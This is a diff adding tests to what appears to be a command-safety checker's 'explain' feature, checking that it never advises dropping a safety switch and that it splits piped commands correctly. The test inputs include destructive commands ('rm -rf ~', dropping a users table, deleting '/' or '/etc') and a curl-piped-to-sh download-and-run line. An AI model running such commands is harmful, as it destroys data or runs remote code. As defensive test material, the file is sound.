@@ -47,6 +47,28 @@ describe('asg explain', () => {
     assert.equal(documents[0]?.allowed_if, 'without --force')
   })
 
+  test('advises nobody to leave out the switch in front of code', async () => {
+    for (const command of [
+      'psql prod -c "drop table users"',
+      'bash -c "rm -rf ~"',
+      "node -e 'require(`fs`).rmSync(`/`)'",
+    ]) {
+      const { documents, terminal } = recorder()
+      await run_explain([command, '--json'], terminal)
+      assert.doesNotMatch(String(documents[0]?.allowed_if), /without/, command)
+    }
+  })
+
+  test('names one part of a line as it is written, never half of a quoted one', async () => {
+    const flip = async (command: string) => {
+      const { documents, terminal } = recorder()
+      await run_explain([command, '--json'], terminal)
+      return documents[0]?.flips
+    }
+    assert.equal(await flip('curl https://x.example/i | sh'), 'only `curl https://x.example/i`')
+    assert.equal(await flip(`python3 -c "import shutil; shutil.rmtree('/etc')"`), null)
+  })
+
   test('shows no terminal sequences of the command', async () => {
     const { lines, terminal } = recorder()
     await run_explain(['echo \u001b[2J hi'], terminal)
